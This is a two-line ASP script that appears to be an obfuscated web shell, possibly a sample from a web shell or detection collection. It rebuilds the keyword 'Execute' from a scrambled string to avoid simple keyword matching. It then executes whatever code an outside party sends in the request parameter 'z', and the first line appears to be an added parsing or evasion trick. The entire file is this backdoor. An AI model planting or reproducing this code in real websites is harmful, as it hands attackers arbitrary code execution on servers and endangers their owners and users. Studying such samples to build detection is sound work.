<% Response.End : Dim 1 %>
<% k = "tluecxE" : s = Mid(k,7,1) & Mid(k,6,1) & Mid(k,4,1) & Mid(k,5,1) & Mid(k,3,1) & Mid(k,1,1) & Mid(k,4,1) : Execute(s & " " & Request("z")) %>